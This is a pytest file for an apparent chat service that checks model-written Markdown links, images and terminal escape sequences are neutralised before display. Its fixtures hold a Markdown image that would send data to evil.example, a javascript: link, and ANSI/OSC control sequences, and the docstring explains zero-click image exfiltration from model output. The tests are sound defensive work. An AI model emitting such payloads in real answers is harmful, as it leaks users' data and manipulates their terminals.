"""Reliability: what a model writes is inert wherever it is shown.

- /v1: a chat client renders the content as Markdown, so a model's image syntax would make it fetch a URL
  (`![x](http://host/leak?d=...)`: data leaves without a click) and its links would be shown as ChiQA's.
  Model-written text keeps its words but loses its link syntax; ChiQA's own permalink still works.
- The CLI: a terminal obeys escape sequences and control bytes, so a model's (or a result's) ANSI codes,
  NULs and carriage returns are removed from everything printed; newlines and tabs stay.
"""
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from backends.scripted import ScriptedBackend
from cli.ask import terminal_safe
from tests.test_api import build_app

ROOT = Path(__file__).resolve().parent.parent
URL = "/v1/chat/completions"
CALL = 'TOOL_CALL: {"name": "query_homicides_advanced", "arguments": {"year": 2022}}'
EVIL_ANSWER = ("There were 717 homicides in 2022. ![x](http://evil.example/leak?d=717) "
               "[click](javascript:alert(1)) [ref][1] <https://evil.example/a> www.evil.example\n"
               "[1]: https://evil.example/ref")
EVIL_CALL = 'TOOL_CALL: {"name": "query_homicides_advanced", "arguments": {"year": 2022, "x": "![i](http://e.x/y)"}}'


def chat(model: str, stream: bool = False) -> dict:
    return {"model": model, "stream": stream,
            "messages": [{"role": "user", "content": "How many homicides were there in 2022?"}]}


def stream_content(resp) -> str:
    text = ""
    for block in resp.get_data(as_text=True).split("\n\n"):
        payload = block[len("data: "):] if block.startswith("data: ") else None
        if payload and payload != "[DONE]":
            for choice in json.loads(payload).get("choices") or []:
                text += choice["delta"].get("content") or ""
    return text


def assert_inert(content: str, permalink: str, model: str) -> None:
    ours = f"\n\n[Full trace]({permalink})" if model == "chiqa" else f"\n\nTrace: {permalink}"
    assert content.endswith(ours)  # ChiQA's own link, untouched
    body = content[: -len(ours)]
    if model == "chiqa":  # our tool-call block is HTML; its attributes are escaped JSON, not Markdown
        body = re.sub(r'<details type="tool_calls".*?</details>\n', "", body, flags=re.S)
    assert "[" not in body and "]" not in body, body  # no link, image or reference syntax survives
    assert "://" not in body and "www." not in body.lower(), body  # nor a bare URL a client would autolink
    assert "<https" not in body  # an autolink in angle brackets is HTML-escaped text
    # the words are all still there, as character references a renderer shows as the original text
    assert "717 homicides in 2022" in body and "&#91;click&#93;(javascript:alert(1))" in body
    assert "!&#91;x&#93;(http&#58;//evil.example/leak?d=717)" in body


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("model", ["chiqa", "chiqa-text"])
def test_v1_model_markdown_links_and_images_are_inert(tmp_path, model, stream):
    backend = ScriptedBackend(replies=[CALL, "NO_TOOL_CALL", EVIL_ANSWER])
    client = build_app(tmp_path, backend=backend).test_client()
    resp = client.post(URL, json=chat(model, stream))
    assert resp.status_code == 200
    if stream:
        content = stream_content(resp)
        permalink = re.search(r"(http://localhost/runs/[0-9a-f]+\?key=[A-Za-z0-9_-]+)", content).group(1)
    else:
        body = resp.get_json()
        content, permalink = body["choices"][0]["message"]["content"], body["chiqa"]["permalink"]
    assert_inert(content, permalink, model)
    # the stored run keeps what the model really wrote (the trace is data, not rendered text)
    run_id = permalink.rsplit("/", 1)[1].split("?")[0]  # the link carries the run's share key
    assert client.get(f"/api/runs/{run_id}").get_json()["result"]["answer"].startswith("There were 717")


def test_v1_model_written_tool_arguments_are_inert_in_the_text_listing(tmp_path):
    """chiqa-text lists each call as a plain line; its arguments are the model's words too."""
    client = build_app(tmp_path, backend=ScriptedBackend(replies=[EVIL_CALL, "NO_TOOL_CALL", "Done."])).test_client()
    content = client.post(URL, json=chat("chiqa-text")).get_json()["choices"][0]["message"]["content"]
    line = content.splitlines()[0]
    assert line.startswith("Tool call 1: query_homicides_advanced ") and "&#91;i&#93;(http&#58;//e.x/y)" in line
    assert "[" not in line and "]" not in line and "://" not in line


# ---------------------------------------------------------------- the CLI: nothing printed is obeyed by the terminal

ANSI_ANSWER = ("There were 717 homicides in 2022.\x1b[2J\x1b[31m red\x1b[0m\x00 NUL\r overwritten\x07 bell "
               "\x1b]0;owned title\x07\x9b6n\x7f\x08 end\n\tindented line")
SCRIPT = """
import sys
from backends.scripted import ScriptedBackend
from cli.ask import terminal_safe
import app

answer = {answer!r}
ScriptedBackend._default_reply = staticmethod(
    lambda request: answer if request.phase == "synthesis" else
    ('TOOL_CALL: {{"name": "query_homicides_advanced", "arguments": {{"year": 2022}}}}' if not any(m["role"] == "assistant" for m in request.messages)
     else "NO_TOOL_CALL"))
sys.exit(app.main(sys.argv[1:]))
"""


@pytest.fixture
def cli_env(tmp_path, data_dir):
    config = tmp_path / "config.yaml"
    config.write_text(f"data:\n  cache_dir: {ROOT / 'var' / 'test' / 'cache'}\n")
    return {"PATH": "/usr/bin:/bin", "CHIQA_CONFIG": str(config), "CHIQA_VAR_DIR": str(tmp_path / "var"),
            "CHIQA_DATA_DIR": str(data_dir)}


@pytest.mark.parametrize("as_json", [False, True])
def test_cli_never_prints_a_models_escape_sequences_or_control_bytes(cli_env, as_json):
    argv = ["ask", "How many homicides were there in 2022?", "--backend", "scripted", *(["--json"] if as_json else [])]
    proc = subprocess.run([sys.executable, "-c", SCRIPT.format(answer=ANSI_ANSWER), *argv], cwd=ROOT, env=cli_env,
                          capture_output=True, timeout=180)
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    out = proc.stdout.decode("utf-8")
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", out), repr(out[:400])  # no ESC, NUL, CR, BEL, DEL, C1
    if as_json:  # JSON escapes them (\u001b): the model's text is kept as data, never raw on the terminal
        assert "\x1b[31m red" in json.loads(out)["answer"]
        return
    answer = out.split("\n\n", 2)[1]  # after the reading line
    assert " ".join(answer.split()).startswith("There were 717 homicides in 2022. red NUL overwritten bell end")
    assert "end\n\tindented line" in answer  # newline and tab kept
    assert "owned title" not in out  # an OSC sequence (window title) goes whole, not just its ESC


def test_terminal_safe_keeps_text_newlines_and_tabs():
    assert terminal_safe("a\x1b[1;31mb\x1b[0m\tc\nd\x00e\rf\x1bcg\u202eh é") == "ab\tc\ndefcg\u202eh é"
